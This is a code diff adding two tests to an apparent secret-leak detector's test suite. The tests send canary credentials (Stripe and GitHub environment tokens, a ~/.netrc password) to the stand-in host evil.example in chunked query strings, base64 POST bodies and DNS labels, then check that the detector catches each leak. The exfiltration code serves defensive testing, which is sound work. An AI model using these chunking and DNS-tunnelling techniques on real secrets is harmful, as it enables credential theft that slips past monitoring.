@@ -329,6 +329,37 @@ describe('leaks', () => {
     expect(leak.because).toBe((await hole.sight('dns.query', Math.ceil(hex.length / 8) - 1)).ref)
   })
 
+  it('joins what stands in one place of request after request', async () => {
+    const value = hole.canary('stripe_key@env:STRIPE_SECRET_KEY')
+    const other = hole.canary('github_token@env:GITHUB_TOKEN')
+    const headers = { host: 'evil.example', 'content-type': 'application/json' }
+    for (let at = 0; at < other.length; at += 7) {
+      const piece = value.slice(at, at + 7)
+      await request(http, { path: `/p?n=${at}&d=${piece}&z=1`, headers: { host: 'evil.example' } })
+      const d = Buffer.from(other.slice(at, at + 7)).toString('base64')
+      await request(http, { method: 'POST', path: '/q', headers }, JSON.stringify({ n: at, d, z: 1 }))
+    }
+    await hole.sinkhole.settle()
+    const leaks = hole.seen.filter(({ kind }) => kind === 'canary.leak').map(({ fields }) => fields)
+    expect(leaks).toContainEqual(
+      expect.objectContaining({ 'canary.source': 'env:STRIPE_SECRET_KEY', 'canary.partial': false }),
+    )
+    expect(leaks).toContainEqual(
+      expect.objectContaining({ 'canary.source': 'env:GITHUB_TOKEN', 'canary.encoding': 'base64' }),
+    )
+  })
+
+  it('tells base64 in dns names by its case', async () => {
+    const text = Buffer.from(hole.canary('password@~/.netrc')).toString('base64url')
+    for (let at = 0; at < text.length; at += 8) await ask(`${text.slice(at, at + 8)}.t.Evil.example`)
+    await hole.sinkhole.settle()
+    expect((await hole.sight('canary.leak')).fields).toMatchObject({
+      'canary.source': '~/.netrc',
+      'canary.encoding': 'base64',
+      'server.address': 'evil.example',
+    })
+  })
+
   it('joins what was split over requests', async () => {
     const value = hole.canary('stripe_key@env:STRIPE_SECRET_KEY')
     for (let at = 0; at < value.length; at += 8)
